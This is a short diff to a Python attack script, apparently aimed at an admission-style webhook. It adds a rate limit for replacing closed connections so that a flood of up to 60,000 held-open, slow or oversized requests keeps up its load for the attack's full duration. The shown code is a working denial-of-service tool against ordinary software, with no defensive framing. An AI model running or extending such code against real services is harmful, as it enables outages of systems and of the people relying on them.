@@ -14,6 +14,8 @@ import threading
 import time
 
 CONNECTIONS_MAX = 60_000
+# Connections that replace closed ones: the webhook may close them faster, and the attack has to last for SECONDS.
+REPLACED_PER_SECOND = 1_500
 BODY_HOLDERS, SILENT, HANDSHAKES, REVIEWERS = 16, 5_000, 1_500, 8
 # The webhook's limit of a review, and the annotation that is large in it.
 BODY, ANNOTATION = 3 << 20, 2 << 20
@@ -100,9 +102,10 @@ class Attack:
 
     def keep_open(self, count, beginnings):
         """Keeps connections open, each with one of the beginnings, and replaces those that the webhook closes."""
-        selector, is_begun = selectors.DefaultSelector(), False
+        selector, is_begun, began = selectors.DefaultSelector(), False, time.monotonic()
         while self.goes_on():
-            for _ in range(min(200, count - len(selector.get_map()))):
+            allowed = count + REPLACED_PER_SECOND * (time.monotonic() - began)
+            for _ in range(min(200, count - len(selector.get_map()), int(allowed) - self.opened)):
                 self.open(selector, beginnings[self.opened % len(beginnings)])
             if not is_begun and self.opened >= count:
                 is_begun = True
